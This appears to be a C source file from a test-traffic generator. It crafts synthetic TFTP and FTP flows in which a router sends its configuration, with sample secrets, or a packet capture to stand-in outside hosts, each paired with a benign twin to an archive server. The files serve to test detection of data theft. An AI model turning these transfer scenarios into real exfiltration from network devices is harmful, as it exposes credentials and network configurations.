/* seawall-gen: file transfers from routers: TFTP of a configuration to an outside host
 * (ST-EXF-001), FTP STOR of a capture to an outside host (ST-EXF-002), a capture file leaving a
 * router (ST-EXF-003) and a configuration inside a file of a harmless name (ST-EXF-004). Twins
 * send to the archive server 10.30.0.30 (file_servers) or carry no capture/config content.
 *
 * TFTP follows RFC 1350: the request goes to port 69, the server answers from a new port of its
 * own (its TID, section 4), and DATA/ACK then flow between the two TIDs, 512-byte blocks, the
 * last one shorter. FTP follows RFC 959 with a passive (PASV, section 4.1.2) data connection. */
#include "bytes.h"
#include "plan.h"
#include "scenario.h"

#include <libnet.h>
#include <stdio.h>
#include <string.h>

#define TFTP_PORT  69 /* RFC 1350 section 4 */
#define FTP_PORT   21 /* RFC 959 section 5.2 */
#define TFTP_BLOCK 512
#define TFTP_WRQ   2
#define TFTP_RRQ   1
#define TFTP_DATA  3
#define TFTP_ACK   4

#define EXFIL_ROUTER   "10.10.0.7"
#define EXFIL_ARCHIVE  "10.30.0.30" /* the plan's file_servers */
#define EXFIL_OUTSIDE  "203.0.113.69"
#define EXFIL_FTP_DROP "198.51.100.21"

/* A running configuration without any ST-EXF-004 marker (no "! Last configuration change"
 * banner, no secrets), so a transfer of it shows only what the request itself shows. */
static const char config_plain[] = "!\n"
                                   "version 17.9\n"
                                   "service timestamps log datetime msec\n"
                                   "hostname edge-7\n"
                                   "!\n"
                                   "interface Loopback0\n"
                                   " ip address 10.10.0.7 255.255.255.255\n"
                                   "!\n"
                                   "interface GigabitEthernet0/0/0\n"
                                   " description uplink core-1\n"
                                   " ip address 10.10.1.7 255.255.255.254\n"
                                   "!\n"
                                   "router ospf 1\n"
                                   " network 10.10.0.0 0.0.255.255 area 0\n"
                                   "!\n"
                                   "end\n";

/* A configuration as IOS writes it with "show running-config": banner and secrets included. */
static const char config_secret[] = "!\n"
                                    "! Last configuration change at 11:58:02 UTC Wed Aug 27 2025"
                                    " by netops\n"
                                    "!\n"
                                    "version 17.9\n"
                                    "hostname edge-7\n"
                                    "enable secret 9 $9$2MJBozw/9R3UsU$5RZ0qOk4cW5S\n"
                                    "tacacs-server key 7 0822455D0A16\n"
                                    "snmp-server community n0c-r3ad RO\n"
                                    "end\n";

/* libpcap file (tcpdump.org file format): little-endian header 2.4, snaplen 65535, Ethernet,
 * then one record of a 60-byte frame. 100 bytes. */
static size_t capture_file(gen_ctx *g, uint8_t *out, size_t cap)
{
    uint8_t frame[60];
    gen_rng_fill(&g->rng, frame, sizeof(frame));
    gen_buf b = gen_buf_init(out, cap);
    gen_put_bytes(&b, (const uint8_t[]){0xd4, 0xc3, 0xb2, 0xa1, 0x02, 0x00, 0x04, 0x00}, 8);
    gen_put_bytes(&b, (const uint8_t[]){0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff, 0, 0, 1, 0, 0, 0}, 16);
    uint32_t sec = (uint32_t)g->now.sec - 60;
    gen_put_bytes(&b,
                  (const uint8_t[]){sec & 0xff, (sec >> 8) & 0xff, (sec >> 16) & 0xff, sec >> 24, 0,
                                    0, 0, 0, 60, 0, 0, 0, 60, 0, 0, 0},
                  16);
    gen_put_bytes(&b, frame, sizeof(frame));
    return b.overflow ? 0 : b.len;
}

/* Request (2-byte opcode, file name, NUL, "octet", NUL): RFC 1350 section 5. */
static size_t tftp_request(uint8_t *out, size_t cap, uint16_t opcode, const char *name)
{
    gen_buf b = gen_buf_init(out, cap);
    gen_put_be16(&b, opcode);
    gen_put_bytes(&b, name, strlen(name) + 1);
    gen_put_bytes(&b, "octet", 6);
    return b.overflow ? 0 : b.len;
}

/* DATA (opcode 3, block, up to 512 bytes) or, with data NULL, ACK (opcode 4, block). */
static int tftp_block(gen_ctx *g, gen_flow *f, int dir, uint16_t block, const uint8_t *data,
                      size_t len)
{
    uint8_t pkt[4 + TFTP_BLOCK];
    gen_buf b = gen_buf_init(pkt, sizeof(pkt));
    gen_put_be16(&b, data ? TFTP_DATA : TFTP_ACK);
    gen_put_be16(&b, block);
    if (data)
        gen_put_bytes(&b, data, len);
    return b.overflow ? -1 : craft_udp(g, f, dir, pkt, b.len);
}

/* The data flow of RFC 1350 section 4: the server's first answer comes from its new TID, so the
 * data flow's initiator is the server. Returns the flow in *data (cli = server). */
static void tftp_data_flow(gen_ctx *g, const gen_flow *req, gen_flow *data)
{
    gen_flow_init_hosts(g, data, IPPROTO_UDP, &req->srv, &req->cli, req->cport);
}

/* WRQ then DATA blocks, each ACKed: 1 + 1 (ACK 0) + 2 per block frames. */
static int tftp_upload(gen_ctx *g, const char *server, const char *name, const uint8_t *file,
                       size_t len)
{
    uint8_t pkt[300];
    gen_flow req, data;
    if (gen_flow_init(g, &req, IPPROTO_UDP, EXFIL_ROUTER, server, TFTP_PORT) < 0)
        return -1;
    size_t n = tftp_request(pkt, sizeof(pkt), TFTP_WRQ, name);
    if (n == 0 || craft_udp(g, &req, GEN_TO_SERVER, pkt, n) < 0)
        return -1;
    tftp_data_flow(g, &req, &data); /* data.cli = server's new TID, data.srv = the router */
    if (tftp_block(g, &data, GEN_TO_SERVER, 0, NULL, 0) < 0)
        return -1;
    uint16_t block = 1;
    for (size_t off = 0;; off += TFTP_BLOCK, block++) {
        size_t chunk = len - off < TFTP_BLOCK ? len - off : TFTP_BLOCK;
        if (tftp_block(g, &data, GEN_TO_CLIENT, block, file + off, chunk) < 0 ||
            tftp_block(g, &data, GEN_TO_SERVER, block, NULL, 0) < 0)
            return -1;
        if (chunk < TFTP_BLOCK) /* section 6: a short block ends the transfer */
            return 0;
    }
}

/* RRQ, then the server's DATA blocks from its TID, each ACKed: same frame count as upload. */
static int tftp_download(gen_ctx *g, const char *server, const char *name, const uint8_t *file,
                         size_t len)
{
    uint8_t pkt[300];
    gen_flow req, data;
    if (gen_flow_init(g, &req, IPPROTO_UDP, EXFIL_ROUTER, server, TFTP_PORT) < 0)
        return -1;
    size_t n = tftp_request(pkt, sizeof(pkt), TFTP_RRQ, name);
    if (n == 0 || craft_udp(g, &req, GEN_TO_SERVER, pkt, n) < 0)
        return -1;
    tftp_data_flow(g, &req, &data);
    uint16_t block = 1;
    for (size_t off = 0;; off += TFTP_BLOCK, block++) {
        size_t chunk = len - off < TFTP_BLOCK ? len - off : TFTP_BLOCK;
        if (tftp_block(g, &data, GEN_TO_SERVER, block, file + off, chunk) < 0 ||
            tftp_block(g, &data, GEN_TO_CLIENT, block, NULL, 0) < 0)
            return -1;
        if (chunk < TFTP_BLOCK)
            return 0;
    }
}

/* config_plain is 286 bytes: WRQ, ACK 0, DATA 1, ACK 1 = 4 frames. */
int scn_exf001_tftp_config(gen_ctx *g)
{
    return tftp_upload(g, EXFIL_OUTSIDE, "running-config", (const uint8_t *)config_plain,
                       sizeof(config_plain) - 1);
}

int scn_exf001_benign(gen_ctx *g)
{
    return tftp_upload(g, EXFIL_ARCHIVE, "running-config", (const uint8_t *)config_plain,
                       sizeof(config_plain) - 1);
}

/* A capture (pcap magic d4c3b2a1) uploaded to the archive: only the magic is news. 4 frames. */
int scn_exf003_tftp_capture(gen_ctx *g)
{
    uint8_t file[128];
    size_t n = capture_file(g, file, sizeof(file));
    return n ? tftp_upload(g, EXFIL_ARCHIVE, "tac.pcap", file, n) : -1;
}

/* The router reads the capture back from the archive: the bytes come from the archive. */
int scn_exf003_benign(gen_ctx *g)
{
    uint8_t file[128];
    size_t n = capture_file(g, file, sizeof(file));
    return n ? tftp_download(g, EXFIL_ARCHIVE, "tac.pcap", file, n) : -1;
}

/* One FTP command or reply line on the control connection. */
static int ftp_line(gen_ctx *g, gen_flow *ctl, int dir, const char *line)
{
    char buf[160];
    int n = snprintf(buf, sizeof(buf), "%s\r\n", line);
    return craft_tcp_data(g, ctl, dir, (const uint8_t *)buf, (size_t)n);
}

/* Login and binary mode: 220, USER, 331, PASS, 230, TYPE I, 200. 7 frames. */
static int ftp_login(gen_ctx *g, gen_flow *ctl)
{
    static const char *const dialogue[] = {"220 (vsFTPd 3.0.3)",
                                           "USER edge7",
                                           "331 Please specify the password.",
                                           "PASS Edge7Backup",
                                           "230 Login successful.",
                                           "TYPE I",
                                           "200 Switching to Binary mode."};
    for (size_t i = 0; i < sizeof(dialogue) / sizeof(dialogue[0]); i++)
        if (ftp_line(g, ctl, i % 2 ? GEN_TO_SERVER : GEN_TO_CLIENT, dialogue[i]) < 0)
            return -1;
    return 0;
}

/* PASV and its 227 reply (RFC 959 section 4.1.2: h1,h2,h3,h4,p1,p2); the data flow goes from the
 * router to that port. 2 frames. */
static int ftp_pasv(gen_ctx *g, gen_flow *ctl, gen_flow *data)
{
    char reply[96];
    const uint8_t *a = ctl->srv.ip.bytes;
    gen_flow_init_hosts(g, data, IPPROTO_TCP, &ctl->cli, &ctl->srv,
                        (uint16_t)gen_rng_range(&g->rng, 40000, 40999));
    snprintf(reply, sizeof(reply), "227 Entering Passive Mode (%u,%u,%u,%u,%u,%u).", a[0], a[1],
             a[2], a[3], data->sport >> 8, data->sport & 0xff);
    if (ftp_line(g, ctl, GEN_TO_SERVER, "PASV") < 0)
        return -1;
    return ftp_line(g, ctl, GEN_TO_CLIENT, reply);
}

/* The file in the data connection, cut at `split` (0: one segment): 3 + 1 or 2 + 3 frames. */
static int ftp_send_file(gen_ctx *g, gen_flow *data, const uint8_t *file, size_t len, size_t split)
{
    if (split && (craft_tcp_data(g, data, GEN_TO_SERVER, file, split) < 0 ||
                  craft_tcp_data(g, data, GEN_TO_SERVER, file + split, len - split) < 0))
        return -1;
    if (!split && craft_tcp_data(g, data, GEN_TO_SERVER, file, len) < 0)
        return -1;
    return craft_tcp_close(g, data);
}

/* Router 10.10.0.7 stores `name` on server. Refused (file NULL): 553 and no data connection, 19
 * frames. Accepted: data connection, 150, the file, 226: 26 + segments frames. */
static int ftp_store(gen_ctx *g, const char *server, const char *name, const uint8_t *file,
                     size_t len, size_t split)
{
    char stor[96];
    gen_flow ctl, data;
    if (gen_flow_init(g, &ctl, IPPROTO_TCP, EXFIL_ROUTER, server, FTP_PORT) < 0 ||
        craft_tcp_open(g, &ctl) < 0 || ftp_login(g, &ctl) < 0 || ftp_pasv(g, &ctl, &data) < 0)
        return -1;
    snprintf(stor, sizeof(stor), "STOR %s", name);
    if (file && craft_tcp_open(g, &data) < 0)
        return -1;
    if (ftp_line(g, &ctl, GEN_TO_SERVER, stor) < 0)
        return -1;
    if (!file) {
        if (ftp_line(g, &ctl, GEN_TO_CLIENT, "553 Could not create file.") < 0)
            return -1;
    } else if (ftp_line(g, &ctl, GEN_TO_CLIENT, "150 Ok to send data.") < 0 ||
               ftp_send_file(g, &data, file, len, split) < 0 ||
               ftp_line(g, &ctl, GEN_TO_CLIENT, "226 Transfer complete.") < 0) {
        return -1;
    }
    if (ftp_line(g, &ctl, GEN_TO_SERVER, "QUIT") < 0 ||
        ftp_line(g, &ctl, GEN_TO_CLIENT, "221 Goodbye.") < 0)
        return -1;
    return craft_tcp_close(g, &ctl);
}

/* The drop server refuses the capture (553), so no bytes move: the command alone. 19 frames. */
int scn_exf002_ftp_stor_capture(gen_ctx *g)
{
    return ftp_store(g, EXFIL_FTP_DROP, "mycap.pcap", NULL, 0, 0);
}

int scn_exf002_benign(gen_ctx *g)
{
    return ftp_store(g, EXFIL_ARCHIVE, "mycap.pcap", NULL, 0, 0);
}

/* The configuration with secrets stored under a harmless name; the first segment ends inside the
 * "! Last configuration change" banner (the first marker is only whole across segments; the
 * secret lines follow whole in the second). 28 frames. */
int scn_exf004_ftp_config_markers(gen_ctx *g)
{
    return ftp_store(g, EXFIL_FTP_DROP, "edge7-notes.txt", (const uint8_t *)config_secret,
                     sizeof(config_secret) - 1, 12);
}

int scn_exf004_benign(gen_ctx *g)
{
    return ftp_store(g, EXFIL_ARCHIVE, "edge7-notes.txt", (const uint8_t *)config_secret,
                     sizeof(config_secret) - 1, 12);
}
